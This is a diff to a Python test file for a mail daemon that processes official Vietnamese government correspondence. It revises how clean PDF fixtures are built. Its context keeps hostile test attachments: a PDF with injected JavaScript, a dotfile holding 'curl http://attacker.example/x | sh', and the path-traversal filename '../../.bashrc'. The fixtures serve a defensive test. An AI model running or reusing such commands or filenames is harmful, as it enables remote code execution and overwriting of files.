@@ -31,6 +31,7 @@ from daemon.outbound import outbox as outbox_module
 from daemon.outbound.recipients import Purpose
 from tests.conftest import AUTHSERV_ID, RULES
 from tests.desk import DOCUMENT, Desk
+from tests.hostile.secrecy import pdf as text_pdf
 from tests.test_inspect import AGENCY_CONFIG
 
 OFFICIAL = "vanphong@tayninh.gov.vn"
@@ -47,7 +48,10 @@ def _pdf(active: bool = False) -> bytes:
     return data.replace(b"/Type /Catalog", b"/Type /Catalog " + JAVASCRIPT) if active else data
 
 
-CLEAN = _pdf()
+# A clean PDF has text: a blank page from an official sender could be a scan, and a scan no
+# one read makes the mail possibly confidential (announced, not forwarded). Each mail has its
+# own: two documents with the same annex are taken for one document sent twice.
+CLEAN = text_pdf("Phụ lục: danh sách các đơn vị phối hợp thực hiện.")
 ACTIVE = _pdf(active=True)
 DOTFILE = b"curl http://attacker.example/x | sh\n"
 
@@ -66,7 +70,8 @@ def _mail(subject: str, body: str, *, authenticated: bool = True) -> bytes:
     msg["Date"] = "Tue, 10 Nov 2026 09:00:00 +0700"
     msg["Message-ID"] = f"<{abs(hash((subject, body)))}@{domain}>"
     msg.set_content(body)
-    msg.add_attachment(CLEAN, maintype="application", subtype="pdf", filename="Công văn.pdf")
+    clean = CLEAN if "1000/" in body else text_pdf(f"Phụ lục của thư «{subject}».")
+    msg.add_attachment(clean, maintype="application", subtype="pdf", filename="Công văn.pdf")
     msg.add_attachment(ACTIVE, maintype="application", subtype="pdf",
                        filename="Phụ lục kèm theo.pdf")
     msg.add_attachment(DOTFILE, maintype="text", subtype="plain", filename="../../.bashrc")
